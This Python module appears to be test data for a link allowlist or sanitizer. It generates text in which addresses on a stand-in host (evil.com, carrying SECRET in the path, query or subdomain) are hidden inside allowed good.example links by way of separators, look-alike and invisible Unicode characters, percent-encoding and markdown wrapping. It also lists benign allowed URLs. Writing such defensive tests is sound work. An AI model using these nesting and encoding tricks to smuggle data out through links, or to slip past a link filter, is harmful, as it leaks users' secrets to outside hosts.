"""Addresses inside addresses, made of every separator, form and escape."""

from __future__ import annotations

import string
from collections.abc import Iterator
from urllib.parse import quote

GOOD = "good.example"

SEPARATORS = (
    *string.punctuation,
    *(
        "//",
        "/(",
        "/[",
        "/{",
        "/?",
        "/#",
        "?x=",
        "?a=b&x=",
        "#/",
        "/_",
        "/*",
        "/**",
        "/~~",
        "/$",
        "/;",
    ),
    *(
        "/,",
        "/:",
        "/@",
        "?@",
        "#@",
        ":80@",
        "/\\",
        "/|",
        '/"',
        "/'",
        "/`",
        "/<",
        "/>",
        "&amp;",
        "&sol;",
    ),
    *(
        " ",
        "\t",
        "\n",
        "\u00a0",
        "\u2003",
        "\u2028",
        "\u3000",
        "\u2800",
        "\u200b",
        "\u200d",
        "\u2060",
    ),
    *(
        "\u00ad",
        "\ufeff",
        "\uff0f",
        "\uff0e",
        "\uff1f",
        "\uff20",
        "\uff1a",
        "\u2044",
        "\u2215",
        "\u3002",
    ),
    *(
        "\u00b7",
        "\u30fb",
        "\u2100",
        "\u2024",
        "\u2026",
        "\u2014",
        "\u2019",
        "\u201d",
        "\u00ab",
        "\u2192",
    ),
)
"""Separators: ASCII characters, look-alikes, and invisible characters."""

EVIL = (
    "http://evil.com/?d=SECRET",
    "HTTPS://EVIL.COM/?d=SECRET",
    "//evil.com/?d=SECRET",
    "www.evil.com/?d=SECRET",
    "evil.com/?d=SECRET",
    "SECRET.evil.com",
    "evil.com",
    "evil.com:8443/SECRET",
    "evil.xn--p1ai/SECRET",
    "mailto:SECRET@evil.com",
    "SECRET@evil.com",
    "ftp://evil.com/SECRET",
    "evil://evil.com/SECRET",
    "javascript:fetch('//evil.com/SECRET')",
    "http:evil.com/SECRET",
    "http://2130706433/SECRET",
    "http://203.0.113.7/SECRET",
    "203.0.113.7/SECRET",
    "http://[2001:db8::7]/SECRET",
)


ENDS = (*string.punctuation, "\u00a0x", "\u3002x", "\\\nx", "];", "})", "&gt;", "&nbsp;x")
"""Characters right after an address, which no parser may include in the host."""


def nested() -> Iterator[str]:
    """Return every address inside an allowed one: plain, escaped, as a link target, in brackets."""
    for start in (GOOD, f"https://{GOOD}", f"https://{GOOD}/docs", f"http://www.{GOOD}/a"):
        for separator in SEPARATORS:
            for evil in EVIL:
                yield f"See {start}{separator}{evil} now."
    for end in ENDS:
        yield from (f"See {start}{end} now." for start in (GOOD, f"https://{GOOD}", f"(www.{GOOD}"))
        yield f"https://{GOOD}{end}"
        yield f"[docs](https://{GOOD}){end}"
        yield f"[docs](https://{GOOD}){end}x.evil.com"
    for evil in EVIL:
        for start in (GOOD, f"https://{GOOD}"):
            yield from _wrapped(start, evil)


def _wrapped(start: str, evil: str) -> Iterator[str]:
    once = quote(evil, safe="")
    for inner in (evil, once, quote(once, safe=""), evil.replace("/", "%2F").replace(":", "%3A")):
        for before in ("/", "/?u=", "/#", "/%20", "/%0A", "/%09", "/%E2%80%8B", "/%3C", "/a%22"):
            yield f"{start}{before}{inner}"
            yield f"[docs]({start}{before}{inner})"
            yield f"<{start}{before}{inner}>"
    for left, right in ("()", "[]", "{}", "<>", '""', "''", "``", "**", "__", "~~"):
        yield f"[docs]({start}/{left}{evil}{right})"
        yield f"{start}/{left}{evil}{right} and {left}{start}{right}{evil}"
        yield f"{start}/{left}x{right}{evil}"
    yield f"{evil}/{start}"
    yield f"{evil}@{start}"
    yield f"| {start}/ | `a|{evil}` |\n|---|---|\n| {start}/|{evil} | `{evil}` |"


ORDINARY = (
    "https://good.example",
    "https://www.good.example/",
    "http://good.example/a/b-c_d.html",
    "https://GOOD.example/Index.HTML",
    "https://good.example/methods/chat.postMessage",
    "https://good.example/methods/users.info",
    "https://good.example/methods/users.info#errors",
    "https://good.example/owner/repo/blob/main/README.md",
    "https://good.example/owner/repo/blob/main/src/my_module.py#L10-L20",
    "https://good.example/library/subprocess.html#subprocess.run",
    "https://good.example/library/stdtypes.html#str.join",
    "https://good.example/wiki/Rust_(language)",
    "https://good.example/wiki/Category:Rivers",
    "https://good.example/wiki/File:Flag.png",
    "https://good.example/@slack/bolt",
    "https://good.example/~ana/notes/",
    "https://good.example/search?q=free+day&page=2",
    "https://good.example/search?q=%22free%20day%22&filter%5B%5D=1",
    "https://good.example/a?from=2026-01-01T00:00&to=now",
    "https://good.example/docs/v1.2.3/intro",
    "https://good.example/%E4%BE%8B/caf%C3%A9",
    "https://good.example/app#/settings?tab=1",
    "https://good.example:8443/health",
    "good.example",
    "www.good.example",
    "good.example/docs/intro",
    "good.example/docs?page=2",
)
"""Addresses as in answers: on an allowed host they stay links."""
